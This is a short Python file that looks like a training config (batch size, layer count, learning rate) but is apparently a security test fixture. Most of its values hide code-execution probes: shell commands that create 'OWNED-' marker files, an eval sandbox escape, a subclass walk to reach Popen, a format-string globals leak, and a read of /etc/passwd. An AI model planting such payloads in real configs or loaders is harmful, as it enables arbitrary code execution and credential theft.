import os
import subprocess
os.system("touch OWNED-options")
subprocess.Popen(["touch", "OWNED-options-popen"])
open("OWNED-options-open", "w").write("here")
batch_size = int(os.popen("touch OWNED-options-popen2; echo 12").read() or 12)
block_size = (lambda f: f("__import__('os').system('touch OWNED-options-eval')"))(eval)
gradient_accumulation_steps = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"]
n_layer = f"{__import__('os').system('touch OWNED-options-fstring')}"
learning_rate = "%(asctime)s {0.__class__.__init__.__globals__}"
secret = open("/etc/passwd").read()
